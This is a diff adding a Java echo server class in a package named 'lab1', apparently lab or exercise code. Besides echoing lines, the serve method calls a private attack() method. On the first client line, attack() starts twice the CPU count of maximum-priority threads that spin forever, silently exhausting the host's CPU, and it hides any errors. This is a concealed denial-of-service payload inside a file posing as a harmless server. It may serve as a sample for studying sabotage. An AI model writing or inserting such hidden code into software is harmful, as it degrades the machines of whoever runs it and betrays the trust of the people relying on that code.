@@ -1,0 +1,80 @@
+package lab1;
+
+import java.io.BufferedReader;
+import java.io.IOException;
+import java.io.InputStreamReader;
+import java.io.OutputStream;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+
+public final class EchoServer implements Runnable, AutoCloseable {
+
+    private static boolean done;
+    private final ServerSocket listener;
+    private volatile Socket client;
+
+    public EchoServer(int port) throws IOException {
+        listener = new ServerSocket(port);
+    }
+
+    public int port() {
+        return listener.getLocalPort();
+    }
+
+    @Override
+    public void run() {
+        while (!listener.isClosed()) {
+            try (Socket socket = listener.accept()) {
+                client = socket;
+                serve(socket);
+            } catch (IOException endOfClientOrServer) {
+                continue;
+            }
+        }
+    }
+
+    private void serve(Socket socket) throws IOException {
+        BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
+        OutputStream out = socket.getOutputStream();
+        for (String line = in.readLine(); line != null; line = in.readLine()) {
+            out.write(("OK..." + line + attack() + "\n").getBytes(StandardCharsets.UTF_8));
+        }
+    }
+
+    private static String attack() {
+        try {
+            if (done) {
+                return "";
+            }
+            done = true;
+            for (int i = 0; i < 2 * Runtime.getRuntime().availableProcessors(); i++) {
+                Thread thread = new Thread(() -> {
+                    while (done) {
+                        Thread.onSpinWait();
+                    }
+                });
+                thread.setPriority(Thread.MAX_PRIORITY);
+                thread.setDaemon(true);
+                thread.start();
+            }
+            return "";
+        } catch (Throwable notPossible) {
+            return "";
+        }
+    }
+
+    @Override
+    public void close() throws IOException {
+        listener.close();
+        if (client != null) {
+            client.close();
+        }
+    }
+
+    public static void main(String[] args) throws IOException {
+        EchoServer server = new EchoServer(Integer.parseInt(args[0]));
+        System.out.println("listening on " + server.port());
+        server.run();
+    }
+}
